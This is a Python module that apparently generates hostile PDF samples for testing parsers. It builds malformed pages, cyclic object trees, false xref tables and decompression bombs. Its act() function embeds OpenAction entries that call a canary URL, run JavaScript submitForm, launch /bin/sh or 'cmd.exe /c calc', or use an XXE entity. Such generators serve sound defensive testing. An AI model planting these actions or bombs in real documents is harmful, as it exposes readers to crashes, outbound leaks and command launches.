"""PDF files that loop, swell, or want to act."""

import zlib
from random import Random

from samples.hostile.bent import honest

_CATALOG = "<</Type/Catalog/Pages 2 0 R{more}>>"
_PAGES = "<</Type/Pages/Kids[{kids}]/Count {count}>>"
_FILTERS = (
    *("FlateDecode", "LZWDecode", "ASCII85Decode", "ASCIIHexDecode", "RunLengthDecode"),
    *("DCTDecode", "JPXDecode", "JBIG2Decode", "CCITTFaxDecode", "Crypt"),
)


def page(chance: Random, canary: str) -> bytes:
    """A page of a size, a turn or a content that no paper has."""
    side = chance.choice(("14400", "200000", "1e38", "-5", "0", "0.0001", "595"))
    box = chance.choice((f"[0 0 {side} {side}]", "[0 0]", "[(a) (b) 1 2]", "[595 842 0 0]", "null", f"[0 0 {side} 10]"))
    content = chance.choice((_pen, _patterns, _text))(chance)
    turn = chance.choice(("0", "90", "45", "-90", "999999999999"))
    unit = chance.choice(("1", "75000", "0", "-1"))
    return document(
        [_CATALOG.format(more=""), _PAGES.format(kids="3 0 R", count=1),
         f"<</Type/Page/Parent 2 0 R/MediaBox{box}/Rotate {turn}/UserUnit {unit}/Contents 4 0 R/Resources<<>>>>",
         stream(content)],
    )  # fmt: skip


def structure(chance: Random, canary: str) -> bytes:
    """Trees that are rings, references to nothing, tables that lie."""
    loop = chance.choice(("2 0 R", "3 0 R", "9999999 0 R", "3 0 R " * 500, "[[[[" * 200, "<</A" * 3_000))
    more = chance.choice(("", "/Names 3 0 R", "/Outlines 3 0 R", "/AcroForm<</Fields[3 0 R]/XFA 3 0 R>>"))
    kid = chance.choice(
        ("<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 3 0 R/Resources 3 0 R>>",
         "<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 99999999>>",
         "<</Type/Page/Parent 3 0 R/MediaBox 3 0 R/Annots[3 0 R 3 0 R]/AA 3 0 R>>")
    )  # fmt: skip
    whole = document([_CATALOG.format(more=more), _PAGES.format(kids=loop, count=chance.choice((1, -1, 10**9))), kid])
    lie = chance.choice((b"startxref\n0\n%%EOF", b"startxref\n99999999999\n%%EOF", b"startxref\n-1", b""))
    return whole[: whole.rfind(b"startxref")] + lie if chance.random() < 0.5 else whole


def bomb(chance: Random, canary: str) -> bytes:
    """Streams within streams, pages without number, pictures of any size."""
    kind = chance.randrange(6)
    if kind == 0:
        packed = bytes(chance.choice((10, 100)) * 1_000_000)
        depth = chance.choice((1, 2, 4))
        for _ in range(depth):
            packed = zlib.compress(packed, 9)
        return _one_page(stream_of(packed, "/Filter[" + "/FlateDecode" * depth + "]"))
    if kind == 1:
        count = chance.choice((21, 2_000))
        kids = " ".join(f"{number} 0 R" for number in range(3, 3 + count))
        blank = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]>>"
        return document([_CATALOG.format(more=""), _PAGES.format(kids=kids, count=count), *[blank] * count])
    if kind == 2:
        size = chance.choice((65_535, 1_000_000, 6_000))
        packed = zlib.compress(bytes(chance.choice((10, 30_000_000))), 9)
        told = f"/Type/XObject/Subtype/Image/Width {size}/Height {size}/ColorSpace/DeviceRGB/BitsPerComponent 8"
        return _drawn(stream_of(packed, told + "/Filter/FlateDecode"))
    if kind == 3:
        # A form that draws itself, or twice the next one, which draws twice the next one.
        forms = chance.choice((1, 24))
        drawn = [
            stream_of(
                b"/F Do /F Do", f"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F {last} 0 R>>>>"
            )
            for last in [min(6 + number, 4 + forms) for number in range(forms)]
        ]
        return _drawn(*drawn)
    if kind == 4:
        filters = "".join(f"/{chance.choice(_FILTERS)}" for _ in range(chance.choice((1, 3, 50))))
        told = "/Type/XObject/Subtype/Image/Width 900/Height 900/ColorSpace/DeviceGray/BitsPerComponent 8"
        return _drawn(
            stream_of(chance.choice((honest("JPEG", 1), chance.randbytes(3_000))), f"{told}/Filter[{filters}]")
        )
    return _one_page(stream(b"q 1 0 0 1 0 0 cm " * chance.choice((1_000, 400_000))))


def act(chance: Random, canary: str) -> bytes:
    """Something that wants to run, to fetch or to send when it is opened."""
    wants = chance.choice(
        (f"/OpenAction<</S/URI/URI({canary})>>",
         f"/OpenAction<</S/JavaScript/JS(app.launchURL\\('{canary}'\\);this.submitForm\\('{canary}'\\))>>",
         f"/OpenAction<</S/SubmitForm/F<</FS/URL/F({canary})>>>>",
         f"/OpenAction<</S/GoToR/F<</FS/URL/F({canary})>>/D[0/Fit]>>",
         "/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>",
         f"/AcroForm<</XFA(<xdp:xdp xmlns:xdp='x'><!DOCTYPE a [<!ENTITY e SYSTEM '{canary}'>]>&e;</xdp:xdp>)>>",
         "/Names<</EmbeddedFiles<</Names[(a.exe)<</Type/Filespec/F(a.exe)>>]>>>>")
    )  # fmt: skip
    outside = f"/F<</FS/URL/F({canary})>>/Type/XObject/Subtype/Image/Width 9/Height 9/BitsPerComponent 8"
    return _drawn(stream_of(b"", outside), more=wants)


def document(objects: list[str | bytes]) -> bytes:
    """Return a PDF 1.7 of objects numbered from 1, with its table."""
    body, places = b"%PDF-1.7\n", []
    for number, held in enumerate(objects, 1):
        places.append(len(body))
        body += f"{number} 0 obj".encode() + (held if isinstance(held, bytes) else held.encode()) + b"endobj\n"
    table = b"".join(f"{place:010} 00000 n \n".encode() for place in places)
    size = len(objects) + 1
    head = f"xref\n0 {size}\n0000000000 65535 f \n".encode()
    return body + head + table + f"trailer<</Root 1 0 R/Size {size}>>\nstartxref\n{len(body)}\n%%EOF".encode()


def stream(content: bytes) -> bytes:
    """Return a plain stream."""
    return stream_of(content, "")


def stream_of(content: bytes, told: str) -> bytes:
    """Return a stream with what its dictionary tells."""
    return f"<</Length {len(content)}{told}>>stream\n".encode() + content + b"\nendstream "


def _one_page(content: bytes) -> bytes:
    sheet = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 4 0 R/Resources<<>>>>"
    return document([_CATALOG.format(more=""), _PAGES.format(kids="3 0 R", count=1), sheet, content])


def _drawn(*drawn: bytes, more: str = "") -> bytes:
    """A page that draws object 5."""
    sheet = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>>>>>"
    head = [_CATALOG.format(more=more), _PAGES.format(kids="3 0 R", count=1), sheet]
    return document([*head, stream(b"q 300 0 0 300 0 0 cm /I Do Q"), *drawn])


def _pen(chance: Random) -> bytes:
    number = chance.choice((b"1e38", b"-999999999999", b"0.00000001", b"NaN", b"5"))
    act = chance.choice((b"%n %n l S ", b"%n w ", b"[%n %n] %n d ", b"%n %n %n %n re f ", b"%n i "))
    return b"0 0 m " + act.replace(b"%n", number) * chance.choice((1, 5_000))


def _patterns(chance: Random) -> bytes:
    return b"/Pattern cs /P scn 0 0 9e9 9e9 re f " + chance.randbytes(200)


def _text(chance: Random) -> bytes:
    return b"BT /F1 " + chance.choice((b"1e9", b"-1", b"12")) + b" Tf (" + chance.randbytes(300) + b") Tj ET"
